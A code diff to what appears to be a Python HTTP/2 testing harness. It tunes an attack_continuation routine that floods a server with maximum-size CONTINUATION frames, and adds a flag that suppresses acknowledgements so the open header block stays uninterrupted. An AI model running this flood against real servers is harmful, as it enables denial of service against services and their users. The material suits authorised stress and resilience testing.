@@ -380,6 +380,9 @@ class RawConn:
             self.decoder.max_header_list_size = 1 << 20
         self.header_buf: dict[int, bytearray] = {}
         self.next_sid = 1
+        #: the reader sends nothing (no PING or SETTINGS acknowledgement): inside an open header
+        #: block any other frame is a connection error
+        self.silent = False
 
     def wake(self) -> None:
         import trio
@@ -451,7 +454,7 @@ class RawConn:
                     self._frame(ftype, flags, sid, length, payload, out)
                     pos += 9 + length
                 del buf[:pos]
-                if out:
+                if out and not self.silent:
                     await self.send(b"".join(out))
         except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
             pass
@@ -798,6 +801,7 @@ async def attack_continuation(ctx: AttackContext) -> str:
         conn = await ctx.connect(wait_settings=True)
         size = min(int(conn.peer_max_frame), (1 << 24) - 1)
         piece = frame(CONTINUATION, 0, 1, _continuation_payload(size))
+        conn.silent = True  # not even a PING acknowledgement may interrupt the header block
         await conn.send(frame(HEADERS, 0, 1, request_headers("POST", "/")))
         for _ in range(min(frames, max(1, int(frames * ctx.scale)))):
             if ctx.left() <= 0 or conn.closed:
